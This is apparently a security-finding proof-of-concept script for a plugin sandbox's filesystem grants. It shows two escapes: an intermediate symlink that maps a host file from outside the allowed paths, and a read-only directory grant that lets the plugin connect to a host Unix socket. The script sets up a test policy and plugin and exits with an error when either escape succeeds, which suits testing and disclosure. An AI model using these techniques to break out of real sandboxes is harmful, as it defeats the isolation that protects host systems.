#!/usr/bin/env python3
"""Findings in filesystem grants (run as root from the repo root after `cargo build --workspace`).

1. A grant path is opened with open(O_PATH|O_NOFOLLOW): only the LAST component is protected,
   so a symlink in an intermediate component of a path beneath `allowed_host_paths` binds a
   host object outside every allowed subtree.
2. A read-only grant of a directory holding a listening Unix socket lets the plugin connect()
   to that host service: a read-only bind does not stop connect(), Landlock has no right for
   it, and the plugin's own network namespace does not cover pathname sockets.
"""
import os, shutil, socket, subprocess, sys, tempfile, threading

WFSANDBOX = os.path.abspath("target/debug/wfsandbox")
base = tempfile.mkdtemp(prefix="wf-grant-")
os.chmod(base, 0o755)
allowed = os.path.join(base, "allowed")
secret = os.path.join(base, "outside")
plugin = os.path.join(base, "plugin")
for d in (allowed, os.path.join(allowed, "data"), secret, plugin):
    os.makedirs(d, exist_ok=True)
    os.chmod(d, 0o755)
with open(os.path.join(secret, "key"), "w") as f:
    f.write("NOT-BENEATH-ALLOWED-PATHS\n")
os.chmod(os.path.join(secret, "key"), 0o644)
os.symlink(secret, os.path.join(allowed, "link"))  # e.g. a pre-existing "current -> ..." link

policy = os.path.join(base, "policy.json")
with open(policy, "w") as f:
    f.write('{"sandbox":{"allowed_host_paths":[{"path":"%s","access":"read_only"}]}}' % allowed)
with open(os.path.join(plugin, "main.py"), "w") as f:
    f.write("import socket, sys\n"
            "print('key via symlinked grant:', open('/key/key').read().strip(), file=sys.stderr)\n"
            "s = socket.socket(socket.AF_UNIX); s.connect('/data/svc.sock')\n"
            "print('host service said:', s.recv(100), file=sys.stderr)\n")
with open(os.path.join(plugin, "manifest.json"), "w") as f:
    f.write('{"name":"grants","version":"1.0.0","entry_point":"main.py","permissions":{"system":'
            '{"filesystem":{"enabled":true,"read":[{"path":"%s/link/key","inside":"/key/key"},'
            '{"path":"%s/data","inside":"/data"}]}}}}' % (allowed, allowed))
for name in ("main.py", "manifest.json", "policy.json"):
    p = os.path.join(plugin if name != "policy.json" else base, name)
    os.chmod(p, 0o644)

sock_path = os.path.join(allowed, "data", "svc.sock")
srv = socket.socket(socket.AF_UNIX)
srv.bind(sock_path)
os.chmod(sock_path, 0o777)
srv.listen(1)
srv.settimeout(10)

def serve():
    try:
        c, _ = srv.accept()
        c.sendall(b"hello from a host-side root service")
        c.close()
    except OSError:
        pass

t = threading.Thread(target=serve)
t.start()
out = subprocess.run([WFSANDBOX, "run", os.path.join(plugin, "manifest.json"), "--policy", policy],
                     capture_output=True, text=True)
t.join()
srv.close()
print(out.stderr)
shutil.rmtree(base)
sys.exit(1 if "NOT-BENEATH" in out.stderr or "host-side root" in out.stderr else 0)
